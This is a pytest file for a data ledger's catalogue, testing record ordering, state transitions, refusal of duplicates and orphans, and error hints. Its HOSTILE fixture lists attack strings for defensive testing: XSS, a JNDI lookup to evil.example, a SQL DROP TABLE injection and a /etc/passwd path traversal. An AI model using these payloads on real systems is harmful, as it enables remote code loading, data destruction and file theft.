"""What the catalogue keeps, in which order, what it refuses, and how it answers a wrong name."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from stoker.core.errors import StokerError
from stoker.core.ids import ReviewId, RunId
from stoker.ledger import rows, schema
from stoker.ledger.catalogue import DATASET_STEPS, REVIEW_STEPS, Catalogue
from stoker.ledger.errors import (
    LedgerRefused,
    UnknownDataset,
    UnknownIdentity,
    UnknownReview,
    UnknownRun,
    UnknownSource,
)
from stoker.ledger.ledger import Ledger
from stoker.ledger.records import DatasetState, ReviewState, RunOutcome
from support import ledger_samples as samples

HOSTILE = (
    "<script>alert(1)</script>",
    "\x1b[31mred\x1b[0m\x07",
    "two\r\nlines\r\n",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE audit_entry; --",
    '{"a": "\\u0041"}',
    "%s %(name)s {0} \\x00",
    "\u202egnirts\u202c \u0000".replace("\u0000", "") + "\U0001f525" + "é" + "e\u0301",
    "../../etc/passwd",
)


def write(ledger: Ledger, change: Callable[[Catalogue], None]) -> None:
    with ledger.act(actor="alice", action="test", subject="test", detail={}) as catalogue:
        change(catalogue)


def test_every_record_is_read_back_as_it_was_written(tmp_path: Path) -> None:
    with samples.open_ledger(tmp_path) as ledger:
        samples.fill(ledger)
    with samples.open_ledger(tmp_path) as ledger:
        catalogue = ledger.catalogue
        assert catalogue.identity("alice") == samples.identity_record()
        assert catalogue.identities() == (samples.identity_record(),)
        assert catalogue.sources() == (samples.source_record(),)
        assert catalogue.latest_source("own-text") == samples.source_record()
        assert catalogue.reviews() == (samples.approved(),)
        assert catalogue.review(ReviewId("rev-1")) == samples.approved()
        assert catalogue.datasets() == (samples.dataset_record(),)
        assert catalogue.latest_dataset("own-text") == samples.dataset_record()
        assert catalogue.dataset_of_root(samples.dataset_record().root) == samples.dataset_record()
        assert catalogue.runs() == (samples.run_record(),)
        assert catalogue.run(RunId("r-1")) == samples.run_record()
        assert catalogue.runs_of_dataset(samples.dataset_record().root) == (samples.run_record(),)
        assert catalogue.runs_of_dataset("0" * 64) == ()
        assert catalogue.checkpoints(RunId("r-1")) == (samples.checkpoint_record(),)
        assert catalogue.tombstones() == (samples.tombstone_record(),)
        assert catalogue.is_tombstoned(samples.tombstone_record().kek)
        assert not catalogue.is_tombstoned("dataset/own-text/d2#1")


def test_lists_are_in_the_order_of_recording_whatever_the_clock_says(ledger: Ledger) -> None:
    late, early = samples.source_record(version="v9"), samples.source_record(version="v1", imported_s=1.0)
    other = samples.source_record("other", "v5")
    with ledger.act(actor="alice", action="test", subject="test", detail={}) as catalogue:
        catalogue.add_source(late)
        catalogue.add_source(other)
    write(ledger, lambda catalogue: catalogue.add_source(early))
    assert ledger.catalogue.sources() == (late, other, early)
    assert ledger.catalogue.sources("own-text") == (late, early)
    assert ledger.catalogue.latest_source("own-text") == early


def test_checkpoints_are_in_the_order_of_their_sequence(filled: Ledger) -> None:
    for sequence in (3, 2):
        write(
            filled,
            lambda catalogue, n=sequence: catalogue.add_checkpoint(samples.checkpoint_record("r-1", n)),
        )
    assert [record.sequence for record in filled.catalogue.checkpoints(RunId("r-1"))] == [1, 2, 3]


def test_a_dataset_is_found_by_its_bytes_and_recipe_only_while_it_is_live(filled: Ledger) -> None:
    first = samples.dataset_record()
    second = samples.dataset_record(version="d2")
    assert filled.catalogue.find_dataset(first.source_root, first.recipe_digest) == first
    assert filled.catalogue.find_dataset(first.source_root, samples.hex64("another recipe")) is None
    write(filled, lambda catalogue: catalogue.add_dataset(second))
    assert filled.catalogue.find_dataset(first.source_root, first.recipe_digest) == second
    write(filled, lambda catalogue: catalogue.set_dataset_state(second.root, DatasetState.DESTROYED))
    assert filled.catalogue.find_dataset(first.source_root, first.recipe_digest) == first
    write(filled, lambda catalogue: catalogue.set_dataset_state(first.root, DatasetState.DESTROYED))
    assert filled.catalogue.find_dataset(first.source_root, first.recipe_digest) is None
    assert [record.state for record in filled.catalogue.datasets()] == [DatasetState.DESTROYED] * 2
    with pytest.raises(LedgerRefused, match="is destroyed"):
        write(filled, lambda catalogue: catalogue.set_dataset_state(first.root, DatasetState.LIVE))


def test_a_dataset_is_found_among_those_of_its_name(filled: Ledger) -> None:
    first, other = samples.dataset_record(), samples.dataset_record("other-text")
    write(filled, lambda catalogue: catalogue.add_dataset(other))
    same = first.source_root, first.recipe_digest
    assert filled.catalogue.datasets_made(*same) == (first, other)
    assert filled.catalogue.datasets_made(*same, "other-text") == (other,)
    assert filled.catalogue.datasets_of_source("own-text", "v1") == (first, other)
    assert filled.catalogue.datasets_of_source("own-text", "v2") == ()


def test_finding_a_dataset_reads_none_of_the_others(filled: Ledger, monkeypatch: pytest.MonkeyPatch) -> None:
    first = samples.dataset_record()

    def add_many(catalogue: Catalogue) -> None:
        for number in range(300):
            other = samples.hex64(f"recipe {number}")
            catalogue.add_dataset(samples.dataset_record(version=f"x{number}", recipe_digest=other))

    write(filled, add_many)
    read: list[object] = []
    made_of = rows.dataset_of
    monkeypatch.setattr(rows, "dataset_of", lambda row: read.append(row) or made_of(row))
    assert filled.catalogue.datasets_made(first.source_root, first.recipe_digest, "own-text") == (first,)
    assert len(read) == 1
    table = schema.dataset
    with filled._database.read() as connection:
        query = sa.select(table).where(table.c.source_root == "a", table.c.recipe_digest == "b")
        text = str(query.compile(connection, compile_kwargs={"literal_binds": True}))
        plan = connection.exec_driver_sql(f"EXPLAIN QUERY PLAN {text}").all()
    assert "ix_dataset_recipe" in str(plan)


@pytest.mark.parametrize(
    ("before", "after"), [(before, after) for before in DatasetState for after in DatasetState]
)
def test_a_dataset_moves_only_along_its_table(
    filled: Ledger, before: DatasetState, after: DatasetState
) -> None:
    root = samples.dataset_record().root
    if before is not DatasetState.LIVE:
        write(filled, lambda catalogue: catalogue.set_dataset_state(root, before))
    if after in DATASET_STEPS[before]:
        write(filled, lambda catalogue: catalogue.set_dataset_state(root, after))
        assert filled.catalogue.dataset_of_root(root).state is after
    else:
        with pytest.raises(LedgerRefused, match=f"is {before}; it cannot become {after}"):
            write(filled, lambda catalogue: catalogue.set_dataset_state(root, after))
    assert filled.audit.verify().holds


def test_the_expiry_of_a_dataset_moves_forward_only(filled: Ledger) -> None:
    before = samples.dataset_record()
    for not_earlier in (before.expires_s, before.expires_s + 1.0):
        with pytest.raises(LedgerRefused, match="cannot expire at"):
            write(filled, lambda catalogue, at=not_earlier: catalogue.expire_dataset(before.root, at))
    write(filled, lambda catalogue: catalogue.expire_dataset(before.root, before.expires_s - 1.0))
    assert filled.catalogue.dataset_of_root(before.root).expires_s == before.expires_s - 1.0
    write(filled, lambda catalogue: catalogue.set_dataset_state(before.root, DatasetState.COLLECTED))
    with pytest.raises(LedgerRefused, match="is collected"):
        write(filled, lambda catalogue: catalogue.expire_dataset(before.root, 1.0))
    assert filled.audit.verify().holds


def test_a_run_of_a_mixture_is_a_run_of_each_of_its_parts(filled: Ledger) -> None:
    own, other = samples.dataset_record(), samples.dataset_record(version="d2")
    mixed = samples.run_record("r-2")
    write(filled, lambda catalogue: catalogue.add_dataset(other))
    write(filled, lambda catalogue: catalogue.add_run(mixed, [own.root, other.root, other.root]))
    assert filled.catalogue.roots_of_run(mixed) == (own.root, other.root)
    assert filled.catalogue.roots_of_run(samples.run_record()) == (own.root,)
    assert filled.catalogue.runs_of_dataset(other.root) == (mixed,)
    assert filled.catalogue.runs_of_dataset(own.root) == (samples.run_record(), mixed)
    assert [(part.run, part.dataset_root) for part in filled.catalogue.run_parts()] == [("r-2", other.root)]
    assert filled.audit.verify().holds


@pytest.mark.parametrize("state", [DatasetState.DESTROYED, DatasetState.COLLECTED])
@pytest.mark.parametrize("which", ["own", "part"])
def test_no_run_begins_or_goes_on_with_a_dataset_that_is_gone(
    filled: Ledger, state: DatasetState, which: str
) -> None:
    other = samples.dataset_record(version="d2")
    write(filled, lambda catalogue: catalogue.add_dataset(other))
    write(filled, lambda catalogue: catalogue.add_run(samples.run_record("r-2"), [other.root]))
    gone = other.root if which == "part" else samples.dataset_record().root
    write(filled, lambda catalogue: catalogue.set_dataset_state(gone, state))
    with pytest.raises(LedgerRefused, match=f"is {state}; no run may read it"):
        write(filled, lambda catalogue: catalogue.add_run(samples.run_record("r-3"), [other.root]))
    with pytest.raises(LedgerRefused, match=f"is {state}; no run may read it"):
        write(filled, lambda catalogue: catalogue.reopen_run(RunId("r-2")))
    assert [run.id for run in filled.catalogue.runs()] == ["r-1", "r-2"]


def test_acts_are_found_by_what_was_done(filled: Ledger) -> None:
    assert [entry.index for entry in filled.audit.acts(("train", "import"))] == [1, 5]
    assert [entry.index for entry in filled.audit.acts(("train", "import"), "subject-5")] == [5]
    assert filled.audit.acts(("nothing",)) == ()


def test_a_run_ends_once(filled: Ledger) -> None:
    write(filled, lambda catalogue: catalogue.end_run(RunId("r-1"), RunOutcome.FINISHED, 1_700_000_100))
    ended = filled.catalogue.run(RunId("r-1"))
    assert (ended.outcome, ended.ended_s) == (RunOutcome.FINISHED, 1_700_000_100.0)
    with pytest.raises(LedgerRefused, match="is finished"):
        write(filled, lambda catalogue: catalogue.end_run(RunId("r-1"), RunOutcome.FAILED, 2.0))


@pytest.mark.parametrize("before", [RunOutcome.FAILED, RunOutcome.CANCELLED])
def test_a_run_that_did_not_finish_may_go_on_and_end_again(filled: Ledger, before: RunOutcome) -> None:
    write(filled, lambda catalogue: catalogue.end_run(RunId("r-1"), before, 1_700_000_100))
    write(filled, lambda catalogue: catalogue.reopen_run(RunId("r-1")))
    going_on = filled.catalogue.run(RunId("r-1"))
    assert (going_on.outcome, going_on.ended_s) == (RunOutcome.RUNNING, None)
    write(filled, lambda catalogue: catalogue.end_run(RunId("r-1"), RunOutcome.FINISHED, 1_700_000_200))
    with pytest.raises(LedgerRefused, match="cannot go on"):
        write(filled, lambda catalogue: catalogue.reopen_run(RunId("r-1")))


@pytest.mark.parametrize("before", ReviewState)
@pytest.mark.parametrize("after", ReviewState)
def test_a_review_moves_only_along_its_table(ledger: Ledger, before: ReviewState, after: ReviewState) -> None:
    write(ledger, lambda catalogue: catalogue.add_source(samples.source_record()))
    write(ledger, lambda catalogue: catalogue.put_review(samples.review_record(state=before)))
    changed = samples.review_record(state=after, decided_by="bob", decided_s=7.0)
    if after in REVIEW_STEPS[before]:
        write(ledger, lambda catalogue: catalogue.put_review(changed))
        assert ledger.catalogue.review(ReviewId("rev-1")) == changed
    else:
        with pytest.raises(LedgerRefused, match=f"is {before}; it cannot become {after}"):
            write(ledger, lambda catalogue: catalogue.put_review(changed))
        assert ledger.catalogue.review(ReviewId("rev-1")).state == before


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("source_version", "v2"),
        ("manifest_root", "0" * 64),
        ("scan_digest", "0" * 64),
        ("policy_digest", "0" * 64),
        ("purpose", "advertising"),
        ("requested_by", "mallory"),
        ("requested_s", 1.0),
        ("expires_s", 9e9),
        ("request_digest", "0" * 64),
    ],
)
def test_a_decision_cannot_be_moved_to_another_request(ledger: Ledger, field: str, value: Any) -> None:
    write(ledger, lambda catalogue: catalogue.add_source(samples.source_record()))
    write(ledger, lambda catalogue: catalogue.put_review(samples.review_record()))
    moved = dataclasses.replace(samples.approved(), **{field: value})
    with pytest.raises(LedgerRefused, match=f"cannot change its {field}"):
        write(ledger, lambda catalogue: catalogue.put_review(moved))
    assert ledger.catalogue.review(ReviewId("rev-1")) == samples.review_record()


DUPLICATES: tuple[Callable[[Catalogue], None], ...] = (
    lambda catalogue: catalogue.add_identity(samples.identity_record()),
    lambda catalogue: catalogue.add_source(samples.source_record()),
    lambda catalogue: catalogue.add_dataset(samples.dataset_record()),
    lambda catalogue: catalogue.add_dataset(
        samples.dataset_record(version="d2", root=samples.dataset_record().root)
    ),
    lambda catalogue: catalogue.add_run(samples.run_record()),
    lambda catalogue: catalogue.add_checkpoint(samples.checkpoint_record()),
    lambda catalogue: catalogue.add_tombstone(samples.tombstone_record()),
)


@pytest.mark.parametrize("again", DUPLICATES)
def test_nothing_is_recorded_twice(filled: Ledger, again: Callable[[Catalogue], None]) -> None:
    size = filled.audit.size
    with pytest.raises(LedgerRefused, match=r"already"):
        write(filled, again)
    assert filled.audit.size == size
    assert filled.audit.verify().holds


ORPHANS: tuple[tuple[str, Callable[[Catalogue], None]], ...] = (
    ("source", lambda catalogue: catalogue.put_review(samples.review_record("rev-9", source="nowhere"))),
    (
        "source",
        lambda catalogue: catalogue.add_dataset(samples.dataset_record(version="d9", source="no", root="1")),
    ),
    (
        "review",
        lambda catalogue: catalogue.add_dataset(samples.dataset_record(version="d9", review="no", root="1")),
    ),
    ("dataset", lambda catalogue: catalogue.add_run(samples.run_record("r-9", dataset_root="no"))),
    ("review", lambda catalogue: catalogue.add_run(samples.run_record("r-9", review="no"))),
    ("run", lambda catalogue: catalogue.add_checkpoint(samples.checkpoint_record("r-9"))),
)


@pytest.mark.parametrize(("missing", "orphan"), ORPHANS)
def test_nothing_is_recorded_without_what_it_stands_on(
    filled: Ledger, missing: str, orphan: Callable[[Catalogue], None]
) -> None:
    with pytest.raises(LedgerRefused, match=f"The {missing} .* is not in the ledger"):
        write(filled, orphan)


LOOK_UPS: tuple[tuple[type[StokerError], str, str, Callable[[Catalogue, str], object]], ...] = (
    (UnknownIdentity, "alcie", "alice", lambda catalogue, name: catalogue.identity(name)),
    (UnknownSource, "own-txet", "own-text", lambda catalogue, name: catalogue.latest_source(name)),
    (UnknownDataset, "owntext", "own-text", lambda catalogue, name: catalogue.latest_dataset(name)),
    (UnknownReview, "rev-2", "rev-1", lambda catalogue, name: catalogue.review(ReviewId(name))),
    (UnknownRun, "r1", "r-1", lambda catalogue, name: catalogue.run(RunId(name))),
)


@pytest.mark.parametrize(("error_type", "wrong", "nearest", "look_up"), LOOK_UPS)
def test_a_wrong_name_gets_a_typed_error_with_the_nearest_valid_one(
    ledger: Ledger,
    error_type: type[StokerError],
    wrong: str,
    nearest: str,
    look_up: Callable[[Catalogue, str], object],
) -> None:
    with pytest.raises(error_type) as empty:
        look_up(ledger.catalogue, wrong)
    assert "none yet" in empty.value.hint
    samples.fill(ledger)
    with pytest.raises(error_type) as caught:
        look_up(ledger.catalogue, wrong)
    assert repr(wrong) in caught.value.message
    assert f"Did you mean {nearest!r}?" in caught.value.hint
    with pytest.raises(error_type) as far:
        look_up(ledger.catalogue, "zzzzzzzz")
    assert nearest in far.value.hint
    with pytest.raises(error_type):
        look_up(ledger.catalogue, "lone \udc80 surrogate")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_kept_verbatim_and_changes_nothing_else(
    filled: Ledger, tmp_path: Path, text: str
) -> None:
    with filled.act(actor=text, action=text, subject=text, detail={text: [text]}) as catalogue:
        catalogue.add_identity(samples.identity_record(text))
        catalogue.add_source(samples.source_record(text, left_out={text: 3}))
    with samples.open_ledger(tmp_path) as ledger:
        assert ledger.catalogue.identity(text).name == text
        assert ledger.catalogue.latest_source(text).left_out == {text: 3}
        entry = list(ledger.audit.entries())[-1]
        assert (entry.actor, entry.action, entry.subject) == (text, text, text)
        assert entry.detail == {text: [text]}
        assert ledger.audit.verify().holds


@pytest.mark.parametrize("text", HOSTILE)
def test_an_error_shows_a_hostile_name_as_escapes_on_one_line(ledger: Ledger, text: str) -> None:
    write(ledger, lambda catalogue: catalogue.add_identity(samples.identity_record(text)))
    with pytest.raises(UnknownIdentity) as caught:
        ledger.catalogue.identity(text + "!")
    for shown in (caught.value.message, caught.value.hint):
        assert shown.isprintable() and shown.isascii()


@pytest.mark.parametrize(
    "record",
    [
        samples.identity_record("nul\x00"),
        samples.identity_record("lone \udc80 surrogate"),
        samples.source_record(imported_s=float("nan")),
        samples.source_record(imported_s=float("inf")),
        samples.source_record(files=2**63),
        samples.source_record(left_out={"a": float("nan")}),
        samples.source_record(left_out={"\udc80": 1}),
        samples.source_record(left_out={"a": "x" * 2_000_000}),
        samples.source_record(left_out={"a": b"bytes"}),
        samples.source_record(left_out={1: "a", "1": "b"}),
    ],
    ids=["nul", "surrogate", "nan", "inf", "65-bit", "json-nan", "json-surrogate", "huge", "bytes", "keys"],
)
def test_what_cannot_be_kept_exactly_is_refused_whole(ledger: Ledger, record: Any) -> None:
    add = "add_identity" if hasattr(record, "role") else "add_source"
    with pytest.raises(LedgerRefused, match=r"(Identity|Source)Record\.\w+ "):
        write(ledger, lambda catalogue: getattr(catalogue, add)(record))
    assert ledger.audit.size == 0
    assert ledger.catalogue.identities() == ()
    assert ledger.catalogue.sources() == ()
